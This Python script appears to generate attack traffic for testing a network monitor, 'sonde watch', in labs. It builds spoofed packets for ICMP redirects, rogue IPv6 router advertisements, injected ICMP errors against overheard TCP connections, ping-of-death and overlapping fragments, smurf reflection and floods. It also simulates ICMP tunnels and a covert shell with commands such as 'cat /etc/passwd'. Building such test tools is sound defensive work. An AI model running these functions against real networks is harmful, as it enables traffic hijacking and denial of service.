#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Attacks that no packaged tool makes, for the labs in which `sonde watch` is tested: attack.py NAME ARGUMENT..."""
import functools
import ipaddress
import os
import random
import socket
import struct
import sys
import time

ICMP, TCP, UDP, ICMP6 = 1, 6, 17, 58


def sum16(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets[: len(octets) & ~1]))
    total += octets[-1] << 8 if len(octets) & 1 else 0
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address):
    return ipaddress.ip_address(address).packed


def is_4(address):
    return ipaddress.ip_address(address).version == 4


def ip(source, target, protocol, payload, ttl=64, fragment=0, identifier=None):
    """An IP packet; fragment is the field of IPv4 with its flags."""
    if not is_4(source):
        return struct.pack("!IHBB", 6 << 28, len(payload), protocol, ttl) + packed(source) + packed(target) + payload
    identifier = random.randrange(1, 65536) if identifier is None else identifier
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), identifier, fragment, ttl, protocol, 0)
    header += packed(source) + packed(target)
    return header[:10] + struct.pack("!H", sum16(header)) + header[12:] + payload


def icmp(source, target, kind, code, rest, payload=b"", ttl=64):
    """An ICMP message of the family of its addresses; rest is the second word of its header."""
    octets = struct.pack("!BBH4s", kind, code, 0, rest) + payload
    cover = b"" if is_4(source) else packed(source) + packed(target) + struct.pack("!II", len(octets), ICMP6)
    octets = octets[:2] + struct.pack("!H", sum16(cover + octets)) + octets[4:]
    return ip(source, target, ICMP if is_4(source) else ICMP6, octets, ttl)


def tcp(source, target, ports, sequence):
    return ip(source, target, TCP, struct.pack("!HHIIHHHH", *ports, sequence, 1, 0x5010, 64240, 0, 0), ttl=61)


def udp(source, target, ports, size=32):
    return ip(source, target, UDP, struct.pack("!HHHH", *ports, 8 + size, 0) + bytes(size), ttl=61)


@functools.lru_cache
def sender(target):
    family = socket.AF_INET if is_4(target) else socket.AF_INET6
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if family == socket.AF_INET:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    where = (target, 0) if family == socket.AF_INET else (target, 0, 0, scope(target))
    return lambda packet: raw.sendto(packet, where)


def scope(target):
    address = ipaddress.ip_address(target)
    return socket.if_nametoindex("eth0") if address.is_link_local or address.is_multicast else 0


def paced(count, pause):
    """Count up to it at this pace: who was held up by a busy machine hurries."""
    due = time.monotonic()
    for number in range(int(count)):
        yield number
        due += float(pause)
        time.sleep(max(0, due - time.monotonic()))


def echo(source, target, count="1", pause="0", size="56"):
    """Echo requests with any source."""
    send = sender(target)
    for number in paced(count, pause):
        rest = struct.pack("!HH", 0x1234, number)
        send(icmp(source, target, 8 if is_4(target) else 128, 0, rest, bytes(int(size))))


def kinds(source, target, *types):
    """One message of each type, with a body of zeros."""
    for kind in types:
        sender(target)(icmp(source, target, int(kind), 0, bytes(4), bytes(12)))


def redirect(source, target, gateway, destination):
    """Tell the target to send its packets to the destination by way of a gateway."""
    quote = udp(target, destination, (40000, 53))
    if is_4(target):
        message = icmp(source, target, 5, 1, packed(gateway), quote[:28])
    else:
        option = struct.pack("!BBHI", 4, (len(quote) + 15) // 8, 0, 0) + quote
        option += bytes(-len(option) % 8)
        message = icmp(source, target, 137, 0, bytes(4), packed(gateway) + packed(destination) + option, 255)
    sender(target)(message)


def advertise(source, *words):
    """A router advertisement: lifetime=SECONDS, prefix=P/64, dns=ADDRESS, mtu=OCTETS, hops=N, count=N."""
    given = dict(word.split("=") for word in words)
    options = b"" if "mac" not in given else b"\x01\x01" + bytes.fromhex(given["mac"].replace(":", ""))
    if "mtu" in given:
        options += struct.pack("!BBHI", 5, 1, 0, int(given["mtu"]))
    if "prefix" in given:
        prefix = ipaddress.ip_network(given["prefix"])
        options += struct.pack("!BBBBIII", 3, 4, prefix.prefixlen, 0xC0, 86400, 14400, 0) + prefix.network_address.packed
    if "dns" in given:
        options += struct.pack("!BBHI", 25, 3, 0, 1800) + packed(given["dns"])
    rest = struct.pack("!BBH", 64, 0, int(given.get("lifetime", 1800)))
    send = sender("ff02::1")
    for _ in range(int(given.get("count", 1))):
        send(icmp(source, "ff02::1", 134, 0, rest, bytes(8) + options, int(given.get("hops", 255))))
        time.sleep(float(given.get("pause", 0.3)))


def overheard(source, target, port):
    """The next segment from a host to a port of another, as it passes here."""
    ears = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    while True:
        octets = ears.recv(2048)
        four = octets[0] >> 4 == 4
        at = (octets[0] & 15) * 4 if four else 40
        ends = octets[12:20] if four else octets[8:40]
        protocol = octets[9] if four else octets[6]
        if ends == packed(source) + packed(target) and protocol == TCP and octets[at + 2 : at + 4] == port.to_bytes(2, "big"):
            return octets[: at + 20]


def error(source, target, kind, code, rest, quoted, pause="0.2"):
    """Errors to a host; quoted is SOURCE,DESTINATION,SPORT,DPORT,SEQUENCE[,SEQUENCE...], or only the first two and
    the port of a connection to overhear; rest is a number, such as the MTU."""
    fields = quoted.split(",")
    numbers = [int(field) for field in fields[2:]]
    if len(numbers) == 1:
        quotes = [overheard(fields[0], fields[1], numbers[0])]
    else:
        quotes = [tcp(fields[0], fields[1], numbers[:2], sequence) for sequence in numbers[2:]]
    for quote in quotes:
        sender(target)(icmp(source, target, int(kind), int(code), struct.pack("!I", int(rest)), quote))
        time.sleep(float(pause))


def talk(host, port, local, seconds, size="64"):
    """A TCP conversation from a port of our own choice; says at the end how it went."""
    end = time.time() + float(seconds)
    family = socket.AF_INET if is_4(host) else socket.AF_INET6
    with socket.socket(family, socket.SOCK_STREAM) as peer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        peer.bind(("", int(local)))
        peer.settimeout(5)
        peer.connect((host, int(port)))
        while time.time() < end:
            peer.sendall(os.urandom(int(size)))
            left = int(size)
            while left:
                left -= len(peer.recv(left))
            time.sleep(0.05)


def death(source, target):
    """The last fragment of a packet that would be longer than 65535 octets."""
    for offset, more, size in ((0, 0x2000, 1480), (1480, 0x2000, 1480), (65528, 0, 1480)):
        payload = (b"\x08\x00\x00\x00\x12\x34\x00\x01" if offset == 0 else b"") + bytes(size)
        sender(target)(ip(source, target, ICMP, payload[:size], fragment=more | offset // 8, identifier=666))


def overlap(source, target):
    """Two fragments that both claim some octets."""
    for offset, more, size in ((0, 0x2000, 64), (24, 0, 64)):
        sender(target)(ip(source, target, ICMP, (b"\x08\x00" + bytes(size))[:size], fragment=more | offset // 8, identifier=667))


def backscatter(reporters, victims, count, pause="0.005"):
    """What comes back when somebody floods the world with the addresses of a prefix."""
    hosts, ours = ipaddress.ip_network(reporters), ipaddress.ip_network(victims)
    for _ in paced(count, pause):
        source, target = (str(net[random.randrange(1, net.num_addresses - 1)]) for net in (hosts, ours))
        kind, code = random.choice(((3, 3), (3, 1), (11, 0), (3, 10)))
        quote = tcp(target, source, (random.randrange(1024, 65536), 80), random.randrange(1 << 32))
        sender(target)(icmp(source, target, kind, code, bytes(4), quote[:28]))


def reflect(reporters, victim, count, pause="0.001"):
    """Echo replies from all hosts of a prefix, as a smurf makes them."""
    net, send = ipaddress.ip_network(reporters), sender(victim)
    for number in paced(count, pause):
        source = str(net[1 + number % (net.num_addresses - 2)])
        send(icmp(source, victim, 0, 0, struct.pack("!HH", 9, number // net.num_addresses), bytes(56)))


def scatter(source, prefix, count, pause="0.01"):
    """Echo requests to random addresses of a prefix."""
    net = ipaddress.ip_network(prefix)
    for _ in paced(count, pause):
        target = str(net[random.randrange(1, net.num_addresses)])
        kind = 8 if net.version == 4 else 128
        sender(target)(icmp(source, target, kind, 0, struct.pack("!HH", 9, 9), bytes(56)))


def solicit(source, prefix, count, pause="0.002"):
    """Neighbour solicitations for random addresses of a prefix, of few groups: the sender's own cache is small, too."""
    net = ipaddress.ip_network(prefix)
    for _ in paced(count, pause):
        wanted = net[random.randrange(1 << 40) << 24 | random.randrange(200)].packed
        target = str(ipaddress.IPv6Address(packed("ff02::1:ff00:0")[:13] + wanted[13:]))
        sender(target)(icmp(source, target, 135, 0, bytes(4), wanted, 255))


def inner_packet():
    """A packet as it runs through tunnels: some text in TCP, or what looks encrypted."""
    body = random.choice((b"GET /index.html HTTP/1.1\r\nHost: www.example.org\r\n\r\n", os.urandom(random.randrange(40, 1100))))
    return ip("10.99.0.1", "10.99.0.2", TCP, struct.pack("!HHIIHHHH", 40000, 443, 7, 8, 0x5018, 500, 0, 0) + body)


def tunnel_server(seconds):
    """Answer echo requests as tunnels do: same identifier and number, other data."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, ICMP)
    raw.settimeout(0.2)
    end = time.time() + float(seconds)
    while time.time() < end:
        try:
            octets, peer = raw.recvfrom(2048)
        except socket.timeout:
            continue
        if octets[20] == 8:
            body = b"\x00\x00\x00\x00" + octets[24:28] + inner_packet()
            raw.sendto(body[:2] + struct.pack("!H", sum16(body)) + body[4:], peer)


def tunnel_client(target, seconds, pause="0.05"):
    """Send packets inside of echo requests."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, ICMP)
    end, number = time.time() + float(seconds), 0
    while time.time() < end:
        number += 1
        body = struct.pack("!BBHHH", 8, 0, 0, 0x4D2, number) + inner_packet()
        raw.sendto(body[:2] + struct.pack("!H", sum16(body)) + body[4:], (target, 0))
        time.sleep(float(pause))


def shell_server(seconds):
    """A shell over ICMP: replies carry commands, short text."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, ICMP)
    raw.settimeout(0.2)
    end = time.time() + float(seconds)
    while time.time() < end:
        try:
            octets, peer = raw.recvfrom(2048)
        except socket.timeout:
            continue
        if octets[20] == 8:
            body = b"\x00\x00\x00\x00" + octets[24:28] + random.choice((b"", b"whoami\n", b"ls -l /home\n", b"cat /etc/passwd\n"))
            raw.sendto(body[:2] + struct.pack("!H", sum16(body)) + body[4:], peer)


def shell_client(target, seconds, pause="0.2"):
    """A shell over ICMP: requests carry what commands print, or nothing."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, ICMP)
    end, number = time.time() + float(seconds), 0
    while time.time() < end:
        number += 1
        said = random.choice((b"", b"", b"root\n$ ", b"-rw-r--r-- 1 root root 1812 Nov 25 10:11 report.txt\n" * random.randrange(1, 3)))
        body = struct.pack("!BBHHH", 8, 0, 0, 1, number) + said
        raw.sendto(body[:2] + struct.pack("!H", sum16(body)) + body[4:], (target, 0))
        time.sleep(float(pause))


def send_udp(target, port, count, pause="0.1"):
    """Datagrams from a new port each, as clients of a service that is down."""
    family = socket.AF_INET if is_4(target) else socket.AF_INET6
    for _ in range(int(count)):
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.sendto(b"hello", (target, int(port)))
        time.sleep(float(pause))


def stretch(source, target, factor):
    """Copy a pcap file (little endian, microseconds), with the times between its packets multiplied."""
    with open(source, "rb") as file, open(target, "wb") as copy:
        copy.write(file.read(24))
        begin = None
        while len(record := file.read(16)) == 16:
            seconds, fraction, captured, length = struct.unpack("<IIII", record)
            now = seconds * 1000000 + fraction
            begin = begin or now
            now = begin + int((now - begin) * float(factor))
            copy.write(struct.pack("<IIII", now // 1000000, now % 1000000, captured, length) + file.read(captured))


ATTACKS = (echo, kinds, redirect, advertise, error, talk, death, overlap, backscatter, reflect, scatter, solicit, tunnel_server,
           tunnel_client, shell_server, shell_client, send_udp, stretch)

if __name__ == "__main__":
    {attack.__name__.replace("_", "-"): attack for attack in ATTACKS}[sys.argv[1]](*sys.argv[2:])
